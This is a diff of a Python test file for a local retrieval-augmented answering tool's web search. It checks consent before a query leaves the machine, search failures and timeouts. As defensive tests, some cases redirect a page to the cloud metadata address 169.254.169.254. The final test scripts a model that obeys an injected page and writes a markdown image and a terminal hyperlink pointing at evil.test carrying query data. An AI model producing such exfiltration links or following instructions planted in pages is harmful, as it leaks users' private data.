@@ -1,34 +1,35 @@
-"""The web through the graphs: stand-ins for search engine and pages; the real ddgs, fetcher, reader and graphs."""
+"""The web through the graphs: stand-ins for search and pages; the real fetcher, reader and graphs."""
 
 from __future__ import annotations
 
-import json
 import re
+from contextlib import nullcontext
 from functools import partial
 
 import pytest
 from support import asking
-from support.fakes import FakeCorpus, FakeWeb, passage
+from support.fakes import FakeCorpus, FakeWeb, ScriptedEngine, passage, time_is_up
 from support.fakes_index import remembering_minilm
 from support.graph_runs import between
 from support.ollama_engine import engine_on
 from support.ollama_mind import mind
 from support.screen import shown
 from support.shipped_evaluator import shipped_evaluator
-from support.web_server import SearchPage, WebServer, html, loopback, redirect, silence
+from support.web_server import SearchProcess, WebServer, html, loopback, redirect
 
 from local_rag.cli.options import with_web
 from local_rag.config.settings import Settings
-from local_rag.core import cancel
+from local_rag.core import cancel, child_process
 from local_rag.core.errors import UsageError
 from local_rag.core.events import Note
 from local_rag.core.verdicts import Graded, Route
 from local_rag.engines.extractive.engine import ExtractiveEngine
+from local_rag.index.parse.parser import Parser
 from local_rag.runtime.opening import open_web
 from local_rag.terminal.answers import answer_parts
-from local_rag.web import search
+from local_rag.web import pages as reading
 from local_rag.web.pages import read_page
-from local_rag.web.search import QUERY_LOG, DdgsSearch
+from local_rag.web.search import DdgsSearch
 
 pytestmark = pytest.mark.usefixtures("converted")
 
@@ -54,77 +55,72 @@ def pages():
 
 
 @pytest.fixture
-def results(pages):
-    with SearchPage(("Draft", pages.url("/draft"), "A snippet about the draft.")) as server:
-        yield server
+def searching(pages, monkeypatch):
+    process = SearchProcess(("Draft", pages.url("/draft"), "A snippet about the draft."))
+    monkeypatch.setattr(child_process, "run", process.run)
+    return process
+
+
+@pytest.fixture(scope="module")
+def worker():
+    with Parser(60) as parser:
+        yield parser
 
 
 @pytest.fixture
-def answering(results, pages, tmp_path, ollama, monkeypatch):
+def answering(searching, pages, worker, tmp_path, ollama, monkeypatch):
     """A function (engine, graph, …) -> Rag over private passages, the stand-ins and the scripted model."""
-    read = partial(read_page, seconds=5, addresses=loopback(pages))
-    monkeypatch.setattr(search, "COMMAND", results.command)
+    read = partial(read_page, seconds=60, addresses=loopback(pages))
+    monkeypatch.setattr(reading, "Parser", lambda seconds: nullcontext(worker))  # each test reads one page
     ollama.always = lambda body: '{"d": "web_search"}' if "Choose where" in str(body) else mind(body)
 
-    def opened(engine, graph, files_first=False, **flags):
+    def opened(engine, graph, quotes=ExtractiveEngine):
         corpus = FakeCorpus([passage(number, f"{PRIVATE} {number}", score=0.1) for number in range(1, 9)])
-        kind = FilesFirst if files_first else ExtractiveEngine
-        engine = engine or kind(remembering_minilm(), shipped_evaluator(), corpus)
-        rag = asking.opened(engine, corpus, graph=graph, web__enabled="on", **flags)
+        quoting = quotes(remembering_minilm(), shipped_evaluator(), corpus)
+        rag = asking.opened(model if engine == "ollama" else quoting, corpus, graph=graph, web__enabled="on")
         rag.web = DdgsSearch(rag.settings.values.web, tmp_path, read)
         return rag
 
     with engine_on(ollama) as model:
-        yield lambda which, graph, **flags: opened(model if which == "ollama" else None, graph, **flags)
+        yield opened
 
 
-def answered(rag, question=DRAFT, **options):
-    events = list(rag.stream(question, **options))
+def answered(rag, **options):
+    events = list(rag.stream(DRAFT, **options))
     return events[-1].answer, events
 
 
-BOTH = [
-    ("ollama", "crag"),
-    ("extractive", "adaptive"),
-    *(pytest.param(*way, marks=pytest.mark.slow) for way in (("ollama", "adaptive"), ("extractive", "crag"))),
-]
-
-
-@pytest.mark.parametrize(("engine", "graph"), BOTH)
-def test_the_tutorials_web_question_is_answered_from_the_web(answering, results, engine, graph):
+@pytest.mark.parametrize(("engine", "graph"), [("ollama", "crag"), ("extractive", "adaptive")])
+def test_the_tutorials_web_question_is_answered_from_the_web(answering, searching, engine, graph):
     answer, events = answered(answering(engine, graph))
-    print(*events[:-1], sep="\n")
     assert answer.status == "grounded", answer
     assert "Caleb Williams" in answer.text
     assert answer.used_web
     assert {one.origin for one in answer.citations} == {"web"}
     assert answer.citations[0].url.endswith("/draft")
-    assert len(results.asked) == 1
+    assert len(searching.requests) == 1
     assert [event.verdict for event in events if isinstance(event, Graded) and event.kind == "web"] == ["relevant"]
 
 
-def test_the_words_are_shown_and_logged_before_they_leave(answering, results, tmp_path):
-    rag, order = answering("extractive", "crag"), []
-    results.when_asked = lambda: order.append(("asked", (tmp_path / QUERY_LOG).read_text(encoding="utf-8")))
-    answered(rag, may_search=lambda query: order.append(("shown", query.query)) or True)
-    (shown, query), (asked, log) = order
-    assert (shown, asked) == ("shown", "asked")
-    assert json.loads(log)["query"] == query == results.asked[0]["q"]
-
-
 @pytest.mark.parametrize("consent", [True, False])
-def test_adaptive_goes_from_the_files_to_the_web_only_with_consent(answering, results, consent):
-    rag, shown_first = answering("extractive", "adaptive", files_first=True), []
+def test_adaptive_goes_from_the_files_to_the_web_only_with_consent(answering, searching, consent):
+    rag, shown_first = answering("extractive", "adaptive", FilesFirst), []
     answer, _ = answered(rag, may_search=lambda query: shown_first.append(query.query) or consent)
     assert between(answer.path).startswith("route_question retrieve grade_documents web_search")
     assert shown_first == [DRAFT], "the person's own words, before anything leaves"
-    assert [asked["q"] for asked in results.asked] == shown_first * consent
+    assert searching.queries == shown_first * consent
     assert answer.used_web is consent
     assert answer.status == ("grounded" if consent else "abstained")
 
 
-def test_consent_holds_for_one_question_of_a_shared_rag(answering, results):
-    rag = answering("extractive", "crag")
+def over_the_web(web):
+    rag = asking.opened(ScriptedEngine(relevant=["n"]), graph="crag", web__enabled="on")
+    rag.web = web
+    return rag
+
+
+def test_consent_holds_for_one_question_of_a_shared_rag():
+    rag = over_the_web(FakeWeb())
     refused = rag.stream(DRAFT, may_search=lambda query: False)
     next(refused)
     allowed, _ = answered(rag, may_search=lambda query: True)
@@ -132,29 +128,17 @@ def test_consent_holds_for_one_question_of_a_shared_rag(answering, results):
     assert not list(refused)[-1].answer.used_web
 
 
-@pytest.mark.parametrize(
-    ("page", "words"),
-    [
-        (redirect("http://169.254.169.254/latest/meta-data/"), "169.254.169.254"),
-        pytest.param(redirect("http://127.0.0.1:22/"), "127.0.0.1", marks=pytest.mark.slow),
-        pytest.param(silence, "took longer|no answer|within|timed out|seconds", marks=pytest.mark.slow),
-        (html("<html></html>"), "is empty"),
-    ],
-    ids=["metadata", "loopback", "silence", "empty"],
-)
-def test_a_page_that_cannot_be_read_costs_a_note_and_leaves_its_snippet(answering, pages, results, page, words):
-    pages.pages["/draft"] = page
-    results.results = [("Draft", pages.url("/draft"), ANSWER)]
+def test_a_page_that_cannot_be_read_costs_a_note_and_leaves_its_snippet(answering, pages, searching):
+    pages.pages["/draft"] = redirect("http://169.254.169.254/latest/meta-data/")
+    searching.results = [("Draft", pages.url("/draft"), ANSWER)]
     answer, events = answered(answering("extractive", "crag"))
     assert answer.status == "grounded" and "Caleb Williams" in answer.text
-    notes = [event.text for event in events if isinstance(event, Note)]
-    assert len(notes) == 1 and "its snippet is used" in notes[0]
-    assert re.search(words, notes[0])
+    (note,) = [event.text for event in events if isinstance(event, Note)]
+    assert "169.254.169.254" in note and "its snippet is used" in note
 
 
-@pytest.mark.parametrize("status", [403, 500])
-def test_a_search_that_fails_is_a_note_and_an_honest_answer(answering, results, status):
-    results.statuses = [status] * 9
+def test_a_search_that_fails_is_a_note_and_an_honest_answer(answering, searching):
+    searching.status = 500
     answer, events = answered(answering("extractive", "crag"))
     assert answer.status == "abstained"
     assert any(isinstance(event, Note) for event in events)
@@ -192,16 +176,13 @@ def test_an_index_kept_from_the_web_is_so_by_its_path_too(home, tmp_path):
             open_web(Settings.load(web__enabled="on", web__never=["contracts"], index=index))
 
 
-def test_words_that_left_are_owned_up_to_when_the_time_is_up(answering):
-    rag = answering("extractive", "crag")
-
+def test_words_that_left_are_owned_up_to_when_the_time_is_up():
     class Slow(FakeWeb):
         def search(self, query, k):
-            cancel.current().deadline = 0.0
+            time_is_up()
             cancel.check()
 
-    rag.web = Slow()
-    answer, _ = answered(rag)
+    answer, _ = answered(over_the_web(Slow()))
     assert answer.used_web and answer.tries["web_searches"] == 1
     assert answer.reason.startswith("out of time")
 
@@ -209,19 +190,19 @@ def test_words_that_left_are_owned_up_to_when_the_time_is_up(answering):
 @pytest.mark.parametrize(
     ("given", "read"),
     [
-        (["ask", "--web", "Why?"], ["ask", "--web=on", "Why?"]),
-        (["ask", "Why?", "--web"], ["ask", "Why?", "--web=on"]),
-        (["ask", "--web", "ask", "Why?"], ["ask", "--web=ask", "Why?"]),
-        (["ask", "--web", "off", "Why?"], ["ask", "--web=off", "Why?"]),
-        (["ask", "--web=ask", "Why?"], ["ask", "--web=ask", "Why?"]),
-        (["ask", "--", "--web"], ["ask", "--", "--web"]),
+        ("ask --web Why?", "ask --web=on Why?"),
+        ("ask Why? --web", "ask Why? --web=on"),
+        ("ask --web ask Why?", "ask --web=ask Why?"),
+        ("ask --web off Why?", "ask --web=off Why?"),
+        ("ask --web=ask Why?", "ask --web=ask Why?"),
+        ("ask -- --web", "ask -- --web"),
     ],
 )
 def test_the_web_option_may_stand_alone(given, read):
-    assert with_web(given) == read
+    assert with_web(given.split()) == read.split()
 
 
-def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering, pages, results, ollama):
+def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering, pages, searching, ollama):
     """Its images and links are text, nothing that it names is fetched, and its sentence is not grounded."""
     link = "\x1b]8;;https://evil.test\x07Click\x1b]8;;\x07"
     evil = f"![x](https://evil.test/?q=Marabou) {link} [here](https://evil.test) [1]"
@@ -233,4 +214,4 @@ def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering,
     screen = "\n".join(shown(*answer_parts(answer), width=100, colour=True))
     assert not re.search("\x1b]8;[^;]*;https://evil.test", screen)
     assert [request.path for request in pages.requests] == ["/draft"]
-    assert "Marabou" not in str(results.asked), "what a passage says never becomes a query"
+    assert "Marabou" not in str(searching.requests), "what a passage says never becomes a query"
